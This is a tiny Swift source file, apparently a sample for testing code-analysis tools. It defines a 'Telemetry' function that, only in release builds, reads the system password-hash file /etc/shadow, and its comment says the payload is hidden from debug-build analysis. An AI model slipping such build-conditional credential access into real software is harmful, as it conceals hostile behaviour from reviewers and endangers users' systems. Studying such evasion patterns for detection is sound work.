import Foundation

/// A payload only the release build compiles: a debug analysis sees it only as inactive code.
public enum Telemetry {
    public static func start() -> Int {
        #if DEBUG
        return 0
        #else
        return FileManager.default.contents(atPath: "/etc/shadow")?.count ?? 0
        #endif
    }
}
